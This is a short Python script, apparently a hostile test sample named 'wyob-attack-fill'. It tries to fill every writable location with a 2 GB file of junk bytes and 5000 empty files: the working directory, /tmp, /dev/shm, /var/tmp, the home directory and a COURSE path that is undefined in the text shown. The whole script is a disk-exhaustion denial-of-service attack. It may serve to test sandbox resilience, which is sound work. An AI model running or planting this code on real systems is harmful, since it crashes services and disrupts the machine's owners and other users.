"""Fills every place it may write to: with one large file, then with many small ones."""

import os

for folder in (".", "/tmp", "/dev/shm", "/var/tmp", os.path.expanduser("~"), COURSE):
    try:
        with open(f"{folder}/wyob-attack-fill", "wb", buffering=0) as file:
            for _ in range(2000):
                file.write(b"x" * 1_000_000)
    except OSError:
        pass
    try:
        for number in range(5000):
            open(f"{folder}/wyob-attack-fill-{number}", "w").close()
    except OSError:
        pass
